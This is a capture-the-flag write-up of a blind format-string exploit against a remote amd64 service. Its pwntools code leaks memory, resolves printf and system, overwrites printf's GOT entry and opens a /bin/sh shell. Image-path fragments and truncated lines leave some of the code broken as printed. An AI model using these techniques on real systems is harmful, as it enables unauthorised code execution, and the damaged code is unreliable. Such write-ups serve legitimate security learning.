Find file Copy path
Fetching contributors…
Cannot retrieve contributors at this time
160 lines (120 sloc) 6.11 KB

Pwn 150 - ESPR

Writeup by f0xtr0t (Jay Bosamiya)

This challenge was solved after the contest, by f0xtr0t (Jay Bosamiya) and p4n74 (Rakholiya Jenish)It was a great challenge with quite a bit to learn, especially since we didn't have the binary, but only a vulnerability to work from.

The challenge

nc 1337

Note by f0xtr0t: If the server is not available at some point, you can set it up on your own system using leaked_from_server.tar.gz. These files were obtained after solving the challenge, and if you are using them, solve them without using any info from the files. Only the above image and access to the nc server was available during the contest, and the below solution uses only these.

Thesolution

The complete solution is in Below is the complete explanation.

Import the almighty pwntools, and open a connection to the server. Based upon the image, we know it is an amd64 binary, and we can guess it is running on linux.

from pwn import *

conn = remote('', 1337)

context.update(arch='amd64', os='linux')

Looking at the image, we know that it is a format string vulnerability. As a way of abstracting the payload string, we write an exec_payload, which prepends a tag (P0WN), and uses it as a way of ensuring cleaner execution. '\n's cause us problems and so we just ignore anypayloads with this in it.

def exec_payload(payload):
    if '\n' in payload:
        return ""
    conn.sendline("P0WN" + payload)
    data = conn.recvrepeat(0.5)"%s => %s" % (repr(payload), repr(data)))
    return data

Using the print_stack function, I got information about what's on the stack. By seeing what's on the stack, we could get an idea of where to go further. Turns out, at offset 30, we get an address that looks like it is in the part of the binary (due to 0x4000000-like address). We store this to be of use later with DynELF from pwntools.

def print_stack(until):
    for i in xrange(1, until + 1):
        exec_payload('%' + str(i) + '$p')addr_into_bin = int(exec_payload('%30$p'), 16)'Using address %s' % hex(addr_into_bin))

Now, using the format string vulnerability, we tryto find out a point that refers to itself so that we can leak using it. With this, we define a leak function, which leaks data from the given address. It leaks an indefinite amount of data (as much as it can). Minor workarounds are introduced to handle '\n' in the address which can be tried to be leaked by looking at previous address or similar.

def find_leak_point():
    for i in xrange(1, 200):
        r = exec_payload('%' + str(i) + '$p' + 'XXXXXXXX' + 'YYYYYYYY')
        if '0x5959595959595959' in r:
            return i

leak_point =find_leak_point()'Found leak point %d' % leak_point)

def leak(addr):
    addr &= (2**64 - 1)'Leaking address %s' % hex(addr))
    r = exec_payload('%' + str(leak_point) + '$s' + 'XXXXXXXX' + p64(addr))
    if r == '':
        return ''
    r = r[:r.index('XXXXXXXX')]
    if r == '(null)':
        return '\x00'
        return r + '\x00'

Now, using the leak function and the address into the binary that we had found before, we instantiate pwntool's DynELF. We use this to find the address of the dynamic section, and a couple of addresses (printf and system) that we will use later. Our current plan of attack is to overwrite the printf address in the GOT with the address to system, and then pass in a /bin/sh to gain access to a shell. The DynELF lookups take a lot of time, due to the sleep that's there on the system. However, due to the way memory leakers are handled, any addresses walked over once will automatically be used again rather than make more calls to the server. So our next parts should run quick enough.

d = DynELF(leak, addr_into_bin)

dynamic_addr = d.dynamic

printf_addr = d.lookup('printf', 'libc')
system_addr = d.lookup('system', 'libc')

Parsing the dynamic section, we want to get the address to the PLTGOT, which is identified by the type 0x03. We thus skip over values in the dynamic section until we get the right type and then return that address.

def find_plt_got():
    addr = dynamic_addr
    while True:
        x = d.leak.n(addr, 2)
        if x == '\x03\x00': # type PLTGOT
            addr += 8
            return u64(d.leak.n(addr, 8))
        addr += 0x10got_addr = find_plt_got()'GOT Address: %s' % hex(got_addr))

We now can walk over the GOT to find the actual address where printf is stored.

def find_printf():
    addr = got_addr
    while True:
        x = d.leak.n(addr, 8)
        if x == p64(printf_addr):
            return addr
        addr += 8

printf_got = find_printf()'printf@got : %s' % hex(printf_got))With all these addresses found, we just need to generate a format string that does the correct overwrite. We could use fmtstr from pwntools, but it would involve some other minor complications (since it places the addresses before doing the format specifiers, but for our use case, we need to have all the format specifiers before the addresses which contain nulls). Hence, we write our own custom format string generator. The curout = 4 is there because of the P0WN tag that we add.

def fmt_gen(addr, val):
    ret = ''
    curout = 4
    dist_to_addr = 12 + 8*20
    reader = (dist_to_addr / 8) + 7
    for i in range(8):diff = (val & 0xff) - curout
        curout = (val & 0xff)
        val /= 0x100
        if diff < 20:
            diff += 0x100
        ret += '%0' + str(diff) + 'u'
        ret += '%'+ str(reader) + '$hhn'reader += 1
    assert(len(ret) < dist_to_addr)
    ret += 'A'*(dist_to_addr - len(ret))
    for i in range(8):
        ret += p64(addr + i)
    return ret

Finally, we run theexploit, and drop a shell."Running exploit")exec_payload(fmt_gen(printf_got, system_addr))conn.sendline('/bin/sh')"Opened shell")